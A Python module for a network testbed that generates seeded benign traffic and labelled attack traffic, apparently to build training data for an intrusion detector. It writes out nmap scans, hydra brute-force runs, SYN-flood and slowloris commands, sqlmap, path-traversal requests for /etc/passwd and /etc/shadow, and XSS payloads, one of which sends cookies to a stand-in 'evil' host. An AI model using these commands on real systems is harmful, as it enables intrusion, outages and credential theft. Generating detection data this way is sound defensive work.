"""What the testbed runs: benign clients and attack tools, each a bounded list of commands.

A scenario turns (seeded random generator, time budget) into command lines,
so the same seed gives the same requests, payloads, wordlists and targets.
Every command runs under ``timeout`` inside its namespace; nothing loops
without a bound.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field

from trafficlm.training.testbed.server_programs import LOGIN_PASSWORD, LOGIN_USER
from trafficlm.training.testbed.webapp import PASSWORD as WEB_PASSWORD
from trafficlm.training.testbed.webapp import USER as WEB_USER

BENIGN = "BENIGN"
USER_AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Version/17.5 Safari/605",
    "curl/7.88.1", "Wget/1.21.3",
)
Commands = list[list[str]]


@dataclass(frozen=True)
class Budget:
    """What a scenario builder gets: its random generator, how long it may run, what to hit."""

    rng: random.Random
    seconds: float
    wordlist: str  # a file of candidate passwords (the real one among them)
    targets: Mapping[str, str]  # service -> the address that serves it
    pages: tuple[str, ...]  # the web site's pages
    spoofed: tuple[str, ...] = ()  # source addresses a flood may forge (the spoofed range's)
    assets: Mapping[str, tuple[str, ...]] = field(default_factory=dict)  # page -> its assets
    own: str = ""  # the address of the host the scenario runs on
    macs: Mapping[str, str] = field(default_factory=dict)  # address -> MAC (for raw senders)
    search: tuple[str, str] = ("/search", "q")  # the web app's search page and its parameter

    def at(self, service: str = "http") -> str:
        return self.targets[service]

    def url(self, scheme: str = "http") -> str:
        return f"{scheme}://{self.at('http')}"

    def search_path(self, value: str) -> str:
        """The search page asked for ``value`` (already encoded as it is to be sent)."""
        page, param = self.search
        return f"{page}?{param}={value}"

    def search_url(self, value: str) -> str:
        return f"{self.url()}{self.search_path(value)}"


@dataclass(frozen=True)
class Scenario:
    name: str
    label: str  # CIC-IDS2017 spelling style; BENIGN for benign traffic
    host: str  # which namespace runs it: "client" or "attacker"
    tools: tuple[str, ...]  # executables it needs
    build: Callable[[Budget], Commands]
    description: str

    @property
    def is_attack(self) -> bool:
        return self.label != BENIGN


def _think(b: Budget, low: float = 0.1, high: float = 1.2) -> list[str]:
    return ["sleep", f"{b.rng.uniform(low, high):.2f}"]


def _curl(b: Budget, url: str, *extra: str) -> list[str]:
    return ["curl", "-s", "-k", "-o", "/dev/null", "--max-time", "5", "-A",
            b.rng.choice(USER_AGENTS), *extra, url]


def _search_curl(b: Budget, value: str) -> list[str]:
    """curl asking the search page for ``value``, URL-encoded by curl."""
    page, param = b.search
    return _curl(b, f"{b.url()}{page}", "-G", "--data-urlencode", f"{param}={value}")


def web_browsing(b: Budget) -> Commands:
    commands = []
    for _ in range(max(4, int(b.seconds * 1.5))):
        scheme = b.rng.choice(("http", "https"))
        page = b.rng.choice([b.rng.choice(b.pages), "/",
                             b.search_path(b.rng.choice(('router', 'tap', 'sensor', 'fire'))),
                             f"{b.rng.choice(b.pages)}?ref=home&lang=en"])
        commands += [_curl(b, f"{b.url(scheme)}{page}"), _think(b)]
    commands.append(_curl(b, f"{b.url()}/login", "-d",
                          f"username={WEB_USER}&password={WEB_PASSWORD}"))
    return commands


def dns_lookups(b: Budget) -> Commands:
    names = [("www.testbed.lan", "A"), ("testbed.lan", "MX"), ("testbed.lan", "TXT"),
             ("ftp.testbed.lan", "A"), ("mail.testbed.lan", "AAAA"), ("nothere.testbed.lan", "A")]
    commands = []
    for _ in range(max(4, int(b.seconds))):
        name, kind = b.rng.choice(names)
        commands += [["dig", "+time=2", "+tries=1", f"@{b.at('dns')}", name, kind],
                     _think(b, 0.2, 2)]
    return commands


def ssh_sessions(b: Budget) -> Commands:
    work = ["uname -a", "ls -la /etc | head", "df -h", "uptime", "cat /etc/os-release"]
    return [cmd for _ in range(max(2, int(b.seconds / 4))) for cmd in (
        ["sshpass", "-p", LOGIN_PASSWORD, "ssh", "-o", "StrictHostKeyChecking=no",
         "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5",
         f"{LOGIN_USER}@{b.at('ssh')}", "; ".join(b.rng.sample(work, 3))], _think(b, 0.5, 2))]


def ftp_transfers(b: Budget) -> Commands:
    login = f"{LOGIN_USER}:{LOGIN_PASSWORD}"
    commands = []
    for i in range(max(2, int(b.seconds / 3))):
        if b.rng.random() < 0.3:
            commands.append(["curl", "-s", "--max-time", "10", "-T", "/etc/services",
                             f"ftp://{login}@{b.at('ftp')}/upload{i}.txt"])
        else:
            commands.append(["curl", "-s", "--max-time", "10", "-o", "/dev/null",
                             f"ftp://{login}@{b.at('ftp')}/report{b.rng.randrange(5)}.txt"])
        commands.append(_think(b, 0.3, 2))
    return commands


def bulk_transfer(b: Budget) -> Commands:
    return [["curl", "-s", "-o", "/dev/null", "--limit-rate", "4M", f"{b.url()}/download.bin"],
            _think(b), ["iperf3", "-c", b.at("iperf"), "-n", "4M", "-b", "20M"]]


def mqtt_telemetry(b: Budget) -> Commands:
    commands = []
    for _ in range(max(3, int(b.seconds))):
        topic = f"plant/{b.rng.choice(('boiler', 'pump', 'valve'))}/temp"
        commands += [["mosquitto_pub", "-h", b.at("mqtt"), "-t", topic, "-m",
                      f"{b.rng.uniform(20, 90):.1f}"], _think(b, 0.3, 1.5)]
    return commands


def nmap(*options: str) -> Callable[[Budget], Commands]:
    return lambda b: [["nmap", "-n", "-Pn", "-r", *options, b.at()]]


def hydra(target: Callable[[Budget], list[str]], *options: str) -> Callable[[Budget], Commands]:
    """hydra takes its options first, then the target (and a module's own argument)."""
    return lambda b: [["hydra", "-I", "-t", "4", *options, "-P", b.wordlist, *target(b)]]


def syn_flood(b: Budget) -> Commands:
    count = int(min(b.seconds, 10) * 1000)  # 1,000 packets/s, bounded by count
    return [["hping3", "-S", "-p", "80", "-s", "20000", "-i", "u1000", "-c", str(count), b.at()]]


def slowloris(b: Budget) -> Commands:
    return [["slowhttptest", "-H", "-c", "300", "-i", "10", "-r", "100", "-t", "GET", "-x", "24",
             "-p", "3", "-l", str(int(b.seconds)), "-u", f"{b.url()}/"]]


def slow_read(b: Budget) -> Commands:
    return [["slowhttptest", "-X", "-c", "300", "-r", "100", "-w", "512", "-y", "1024", "-n", "5",
             "-z", "32", "-k", "3", "-p", "3", "-l", str(int(b.seconds)),
             "-u", f"{b.url()}/download.bin"]]


def http_flood(b: Budget) -> Commands:
    return [["ab", "-q", "-n", str(int(b.seconds * 200)), "-c", "50", "-s", "5",
             f"{b.url()}/docs/page{b.rng.randrange(3)}.html"]]


def sql_injection(b: Budget) -> Commands:
    return [["sqlmap", "-u", b.search_url("router"), "--batch", "--flush-session",
             "--technique=BEU", "--level=2", "--threads=2", "--timeout=5",
             "--output-dir=sqlmap", "--disable-coloring", "--banner",
             "--tables"]]


XSS = ("<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>",
       "<svg/onload=alert('xss')>", "javascript:alert(1)", "<body onload=alert(1)>",
       "<iframe src=javascript:alert(1)>", "'\"><script>fetch('//evil/'+document.cookie)</script>")
TRAVERSAL = ("../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//etc/shadow",
             "%2e%2e/%2e%2e/%2e%2e/etc/hosts", "..\\..\\..\\windows\\win.ini",
             "../../../../proc/self/environ", "/docs/../../../../etc/group")


def xss(b: Budget) -> Commands:
    commands = []
    for _ in range(max(10, int(b.seconds * 2))):
        payload = b.rng.choice(XSS)
        commands += [_search_curl(b, payload), _think(b, 0.05, 0.6)]
    return commands


def path_traversal(b: Budget) -> Commands:
    commands = []
    for _ in range(max(10, int(b.seconds * 2))):
        target = b.rng.choice(TRAVERSAL)
        commands += [_curl(b, f"{b.url()}/docs/{target}", "--path-as-is"), _think(b, 0.05, 0.6)]
    return commands


def dns_tunnel(b: Budget) -> Commands:
    commands = []
    for i in range(max(20, int(b.seconds * 8))):
        chunk = base64.b32encode(b.rng.randbytes(30)).decode().rstrip("=").lower()
        name = f"{chunk[:40]}.{chunk[40:]}{i}.t.testbed.lan"
        commands += [["dig", "+time=1", "+tries=1", f"@{b.at('dns')}", name,
                      b.rng.choice(("TXT", "A", "CNAME"))], ["sleep", "0.1"]]
    return commands


SCENARIOS = {s.name: s for s in (
    Scenario("web_browsing", BENIGN, "client", ("curl",), web_browsing,
             "HTTP and HTTPS page views with query parameters, several user agents"),
    Scenario("dns_lookups", BENIGN, "client", ("dig",), dns_lookups,
             "A/MX/TXT/AAAA lookups in the local zone, some NXDOMAIN"),
    Scenario("ssh_sessions", BENIGN, "client", ("ssh", "sshpass"), ssh_sessions,
             "SSH logins that run a few commands"),
    Scenario("ftp_transfers", BENIGN, "client", ("curl",), ftp_transfers,
             "FTP downloads and uploads with a password login"),
    Scenario("bulk_transfer", BENIGN, "client", ("curl", "iperf3"), bulk_transfer,
             "a 2 MiB HTTP download and a 4 MiB iperf3 transfer"),
    Scenario("mqtt_telemetry", BENIGN, "client", ("mosquitto_pub",), mqtt_telemetry,
             "sensor readings published over MQTT"),
    Scenario("portscan_syn", "PortScan", "attacker", ("nmap",), nmap("-sS", "-p", "1-1000"),
             "nmap SYN scan of ports 1-1000"),
    Scenario("portscan_connect", "PortScan", "attacker", ("nmap",),
             nmap("-sT", "-p", "1-1000"), "nmap connect scan of ports 1-1000"),
    Scenario("version_scan", "ServiceScan", "attacker", ("nmap",),
             nmap("-sV", "-p", "21,22,53,80,443,1883,5201"), "nmap service/version detection"),
    Scenario("udp_scan", "UDPScan", "attacker", ("nmap",), nmap("-sU", "--top-ports", "1000"),
             "nmap UDP scan of the top 1000 ports"),
    Scenario("ssh_bruteforce", "SSH-Patator", "attacker", ("hydra",),
             # -w 1: sshd drops the connection after each failure (MaxAuthTries 1) and hydra
             # would otherwise wait 32 s for a reply that never comes before reconnecting
             hydra(lambda b: [f"ssh://{b.at('ssh')}"], "-w", "1", "-l", LOGIN_USER),
             "hydra password guessing on SSH, one guess per connection"),
    Scenario("ftp_bruteforce", "FTP-Patator", "attacker", ("hydra",),
             hydra(lambda b: [f"ftp://{b.at('ftp')}"], "-l", LOGIN_USER),
             "hydra password guessing on FTP"),
    Scenario("web_bruteforce", "Web Attack \u2013 Brute Force", "attacker", ("hydra",),
             hydra(lambda b: [b.at(), "http-post-form",
                          "/login:username=^USER^&password=^PASS^:Login failed"], "-l", WEB_USER),
             "hydra against the HTTP login form"),
    Scenario("syn_flood", "DoS Syn Flood", "attacker", ("hping3",), syn_flood,
             "hping3 SYN flood on port 80 at 1,000 packets/s"),
    Scenario("slowloris", "DoS Slowloris", "attacker", ("slowhttptest",), slowloris,
             "slowhttptest slowloris: 300 connections with endless headers"),
    Scenario("slow_read", "DoS Slowhttptest", "attacker", ("slowhttptest",), slow_read,
             "slowhttptest slow read of a 2 MiB file over 300 connections"),
    Scenario("http_flood", "DoS HTTP Flood", "attacker", ("ab",), http_flood,
             "ApacheBench, 50 concurrent clients"),
    Scenario("sql_injection", "Web Attack \u2013 Sql Injection", "attacker", ("sqlmap",),
             sql_injection, "sqlmap against the search parameter"),
    Scenario("xss", "Web Attack \u2013 XSS", "attacker", ("curl",), xss,
             "reflected XSS payloads in the search parameter"),
    Scenario("path_traversal", "Web Attack \u2013 Path Traversal", "attacker", ("curl",),
             path_traversal, "directory traversal requests"),
    Scenario("dns_tunnel", "DNS Tunnel", "attacker", ("dig",), dns_tunnel,
             "base32-encoded data in query names under one domain, 8 queries/s"),
)}
BENIGN_SCENARIOS = [s for s in SCENARIOS.values() if not s.is_attack]
ATTACK_SCENARIOS = [s for s in SCENARIOS.values() if s.is_attack]
MIXED_ATTACKS = ("portscan_syn", "ssh_bruteforce", "sql_injection", "slowloris", "dns_tunnel",
                 "xss")
COMMON_PASSWORDS = ("123456", "password", "admin", "letmein", "qwerty", "dragon", "monkey",
                    "abc123", "football", "iloveyou", "master", "sunshine", "princess",
                    "welcome", "shadow", "superman", "michael", "trustno1", "baseball",
                    "starwars")
# Real wordlists try each word with the usual decorations; 100 candidates keep a
# brute force going for the whole time budget, so a run holds dozens of its flows.
PASSWORDS = COMMON_PASSWORDS + tuple(f"{word}{suffix}" for suffix in ("1", "!", "2024", "123")
                                     for word in COMMON_PASSWORDS)
